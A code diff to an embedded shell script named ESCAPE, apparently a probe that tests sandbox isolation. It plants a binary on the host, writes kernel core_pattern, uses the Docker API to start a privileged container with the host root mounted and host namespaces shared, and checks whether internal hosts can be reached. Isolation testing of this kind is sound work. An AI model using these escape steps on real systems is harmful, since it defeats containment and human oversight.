@@ -26,6 +26,8 @@ const ESCAPE: &str = r#"#!/bin/sh
 cat >/host/usr/bin/stranger <<'END'
 #!/bin/sh
 exec >/stranger.told 2>&1
+# Once is enough.
+echo core >/proc/sys/kernel/core_pattern
 export PATH=/usr/sbin:/usr/bin:/sbin:/bin
 echo "user $(id -u) of the machine $(cat /proc/sys/kernel/hostname), first process $(tr '\0' ' ' </proc/1/cmdline)"
 echo "network: $(ls /sys/class/net | tr '\n' ' ')"
@@ -61,7 +63,7 @@ docker() {
 image=$(docker images/json | jq -r '.[0].Id')
 inner='echo "as $(id -u), first process $(tr "\0" " " </proc/1/cmdline | cut -c1-20), networks $(ls /sys/class/net | grep -c assay)"'
 inner="$inner; ls -d /host{folder} 2>/dev/null && echo FOUND the folder of the runner"
-inner="$inner; for host in 10.77.0.1 10.0.2.2 127.0.0.1; do wget -q -T 3 -O /dev/null http://\$host:{port}/ && echo FOUND somebody at \$host; done"
+inner="$inner; for host in 10.77.0.1 10.0.2.2 127.0.0.1; do chroot /host curl --silent --max-time 3 --output /dev/null http://\$host:{port}/ && echo FOUND somebody at \$host; done"
 inner="$inner; echo tried everything"
 host='{"Privileged":true,"PidMode":"host","NetworkMode":"host","IpcMode":"host","Binds":["/:/host"],"Devices":[{"PathOnHost":"/dev/vdc","PathInContainer":"/dev/vdc","CgroupPermissions":"rwm"}]}'
 wanted=$(jq -n --arg image "$image" --arg inner "$inner" --argjson host "$host" \
